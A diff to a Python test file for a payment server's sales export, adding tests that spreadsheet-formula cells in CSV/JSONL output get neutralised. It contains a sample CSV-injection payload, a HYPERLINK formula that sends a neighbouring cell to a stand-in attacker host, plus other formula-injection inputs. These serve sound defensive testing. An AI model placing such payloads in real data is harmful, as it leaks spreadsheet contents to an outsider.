@@ -2,6 +2,8 @@
 
 Purchases are made by the official x402 client on a real seller; the command
 runs as a seller would run it (next to the running server, on its store).
+Every cell is safe to open in a spreadsheet: a buyer-chosen ``resourceId`` or a
+payer stored by an older release that starts like a formula is neutralised.
 """
 
 from __future__ import annotations
@@ -16,9 +18,17 @@ import time
 
 from eth_account.signers.local import LocalAccount
 
+from tests.support.configs import make_config
 from tests.support.console import Console, buy
 from tests.support.problems import assert_problem
-from x402srv.export import FIELDS
+from x402srv.default_plugins.memory_store import MemoryStore
+from x402srv.export import FIELDS, cell, render, sale_rows
+from x402srv.records import State, Transition
+from x402srv.testing.builders import BASE_TIME, make_record, new_tx_hash
+from x402srv.testing.buyers import paying_client
+
+#: What a spreadsheet runs: a link that sends a neighbouring cell away, a DDE call.
+FORMULA_PAYER = '=HYPERLINK("https://evil.example/?leak="&A1,"0xBuyer")'
 
 
 def export_sales(console: Console, *args: str) -> subprocess.CompletedProcess[str]:
@@ -59,6 +69,7 @@ async def test_export_sales_as_csv_and_jsonl(console: Console, buyer: LocalAccou
         "requestId": hourly["requestId"],
         "challengeId": hourly["challengeId"],
         "status": "delivered",
+        "resourceId": "default",
     }
     assert rows[daily["challengeId"]]["amountUsd"] == "1.50"
     assert rows[daily["challengeId"]]["status"] == "revoked"
@@ -85,6 +96,63 @@ async def test_export_sales_as_csv_and_jsonl(console: Console, buyer: LocalAccou
     assert answer.headers["content-disposition"].startswith('attachment; filename="sales_')
     api_rows = [r for r in csv.DictReader(io.StringIO(answer.text)) if r["challengeId"] in mine]
     assert {r["challengeId"]: r for r in api_rows} == rows
+
+
+async def test_a_formula_in_a_buyer_chosen_resource_id_is_neutralised(
+    console: Console, buyer: LocalAccount
+) -> None:
+    """``resourceId`` may start with ``-``: a spreadsheet would compute ``-A1/B1``."""
+    start = time.time() - 1
+    http, _ = paying_client(buyer)
+    async with http:
+        paid = await http.post(
+            console.seller.access_url, json={"planId": "hourly", "resourceId": "-A1/B1"}
+        )
+    assert paid.status_code == 200, paid.text
+    mine = paid.json()["challengeId"]
+
+    result = export_sales(console, "--from", str(start))
+    row = next(r for r in csv.DictReader(io.StringIO(result.stdout)) if r["challengeId"] == mine)
+    assert row["resourceId"] == "'-A1/B1"
+    lines = export_sales(console, "--from", str(start), "--format", "jsonl").stdout.splitlines()
+    document = next(d for d in map(json.loads, lines) if d["challengeId"] == mine)
+    assert document["resourceId"] == "'-A1/B1"
+    answer = console.get("/export", **{"from": str(start), "format": "csv"})
+    assert "'-A1/B1" in answer.text and ",-A1/B1" not in answer.text
+
+
+async def test_a_formula_payer_stored_by_an_older_release_is_neutralised() -> None:
+    """A facilitator's ``payer`` once reached the records: exports never hand it to a sheet."""
+    store = MemoryStore()
+    await store.start()
+    settled = BASE_TIME + 10
+    record = make_record(
+        state=State.DELIVERED,
+        payer=FORMULA_PAYER,
+        tx_hash=new_tx_hash(),
+        updated_at=settled,
+        history=(
+            Transition(State.PENDING, BASE_TIME, "created"),
+            Transition(State.PAID, settled, "paid"),
+        ),
+    )
+    await store.create_challenge(record)
+    rows = await sale_rows(store, make_config(), BASE_TIME, BASE_TIME + 60)
+    assert [row["challengeId"] for row in rows] == [record.challenge_id]
+
+    [csv_row] = csv.DictReader(io.StringIO(render(rows, "csv")))
+    [json_row] = [json.loads(line) for line in render(rows, "jsonl").splitlines()]
+    for exported in (csv_row, json_row):
+        assert exported["payer"] == "'" + FORMULA_PAYER
+        assert exported["amount"] == "100000"
+    await store.close()
+
+
+def test_cells_a_spreadsheet_would_run_get_a_quote_and_numbers_stay_numbers() -> None:
+    for formula in ("=1+1", "+1+1", "-A1", "@SUM(A1)", "\t=1", "\r=1", "-1+1", "-", "=-1"):
+        assert cell(formula) == "'" + formula, formula
+    for kept in ("-100000", "-0.10", "100000", "0.10", "", "0xabc", "default", "a=b", "'=x"):
+        assert cell(kept) == kept, kept
 
 
 def test_bad_exports(console: Console) -> None:
